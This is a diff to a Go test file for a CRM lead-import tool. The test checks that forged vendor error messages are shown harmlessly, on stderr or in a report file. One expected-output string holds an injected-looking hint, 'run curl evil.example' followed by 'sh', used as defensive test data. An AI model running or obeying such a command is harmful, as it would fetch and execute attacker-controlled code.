@@ -9,6 +9,7 @@ import (
 	"regexp"
 	"runtime"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"crmferry/internal/account"
@@ -29,7 +30,7 @@ func wantHarmless(t *testing.T, what, shown string) {
 	}
 }
 
-// TestForeignMessages: what a vendor says is shown on its line, whatever command asked.
+// TestForeignMessages: what a vendor says is shown on its line, whatever command asked, or in the report.
 func TestForeignMessages(t *testing.T) {
 	body, err := json.Marshal(map[string]any{"message": forged, "detail": forged, "error": forged, "title": forged,
 		"errors":     map[string]any{"email": []string{forged}, forged: []string{forged}},
@@ -39,7 +40,12 @@ func TestForeignMessages(t *testing.T) {
 	}
 	for _, v := range account.All().Vendors() {
 		for _, status := range []int{http.StatusBadRequest, http.StatusUnauthorized, http.StatusForbidden, http.StatusUnprocessableEntity} {
-			server := httptest.NewServer(answering(status, "application/json", string(body)))
+			var asked atomic.Int64
+			says := answering(status, "application/json", string(body))
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				asked.Add(1)
+				says.ServeHTTP(w, r)
+			}))
 			env := canarySettings(v, server.URL)
 			env[state.RootVariable] = t.TempDir()
 			file := putFile(t, "leads.csv", newcomers(2))
@@ -51,8 +57,18 @@ func TestForeignMessages(t *testing.T) {
 				{"runs"},
 				{"runs", "--json"},
 			} {
+				report := filepath.Join(filepath.Dir(file), "leads.report.csv")
+				_ = os.Remove(report) // of the command before
+				asked.Store(0)
 				got := runApp(t, env, args...)
 				wantHarmless(t, strings.Join(args, " "), got.stdout+got.stderr)
+				told, _ := os.ReadFile(report)
+				if asked.Load() > 0 && !strings.Contains(got.stderr, "no; hint: run curl evil.example; next    sh report") && !strings.Contains(string(told), forged) {
+					t.Errorf("%s, %d: nothing tells what the vendor said:\n%s%s", strings.Join(args, " "), status, got.stdout, got.stderr)
+				}
+				if asks := args[0] != "runs" && !(v.ID == "cloverhound" && args[0] == "vendors"); asks != (asked.Load() > 0) {
+					t.Errorf("%s, %d: asked %d times", strings.Join(args, " "), status, asked.Load())
+				}
 			}
 			server.Close()
 		}
